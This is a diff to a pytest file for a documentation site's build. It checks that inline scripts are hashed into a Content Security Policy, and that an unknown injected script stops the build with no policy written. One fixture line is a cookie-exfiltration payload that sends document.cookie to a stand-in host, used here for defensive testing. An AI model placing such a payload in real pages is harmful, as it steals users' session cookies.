@@ -57,18 +57,42 @@ def test_csp_is_strict_and_hashes_every_inline_script(hosted):
     assert assert_every_inline_script_allowed(hosted, csp) > 2 * len(content_pages(hosted))
 
 
-def test_a_changed_inline_script_gets_its_hash(site, tmp_path):
-    """Hashes come from the pages, not from a list: a build whose inline script differs still matches."""
+def test_a_template_script_with_another_value_gets_its_hash(site, tmp_path):
+    """Hashes come from the pages, not from a list: Material's script with another value in it (another
+    page depth or site_url writes another base URL) is recognised and hashed at the next build."""
     copy = hosted_copy(site, tmp_path / "site")
     before = served_csp(copy)
     page = copy / GUIDE_PAGE / "index.html"
     text = page.read_text(encoding="utf-8")
-    script = inline_scripts(page)[-1]
-    page.write_text(text.replace(script, script + ";void 0"), encoding="utf-8")
-    assert sha(script + ";void 0") not in before
+    script = next(s for s in inline_scripts(page) if s.startswith("__md_scope=new URL("))
+    changed = re.sub(r'new URL\("[^"]*"', 'new URL("/elsewhere/"', script, count=1)
+    page.write_text(text.replace(script, changed), encoding="utf-8")
+    assert sha(changed) not in before
     subprocess.run([PY, "-m", "scripts.build.hosting", str(copy)], cwd=ROOT, env=ENV, check=True,
                    capture_output=True)
-    assert sha(script + ";void 0") in served_csp(copy)
+    assert sha(changed) in served_csp(copy)
+
+
+@pytest.mark.parametrize("how", ["added", "changed"])
+def test_an_unknown_inline_script_stops_make_site(site, tmp_path, how):
+    """A script no theme template writes (a page's own, or Material's with code added) is never hashed
+    into the policy: hosting.py stops, naming the page and the fix, and writes no policy."""
+    copy = tmp_path / "site"
+    shutil.copytree(site, copy)
+    page = copy / GUIDE_PAGE / "index.html"
+    text = page.read_text(encoding="utf-8")
+    if how == "added":
+        text = text.replace("</article>", "<script>fetch('https://t.example/?'+document.cookie)</script></article>", 1)
+    else:
+        script = inline_scripts(page)[-1]
+        text = text.replace(script, script + ";void 0")
+    page.write_text(text, encoding="utf-8")
+    result = subprocess.run([PY, "-m", "scripts.build.hosting", str(copy)], cwd=ROOT, env=ENV,
+                            capture_output=True, text=True)
+    assert result.returncode == 1, result.stdout + result.stderr
+    assert f"{GUIDE_PAGE}index.html: inline script" in result.stderr, result.stderr
+    assert "comes from no known template. Fix:" in result.stderr
+    assert not (copy / "_headers").exists(), "a policy was written anyway"
 
 
 # --- nginx ------------------------------------------------------------------------------------------
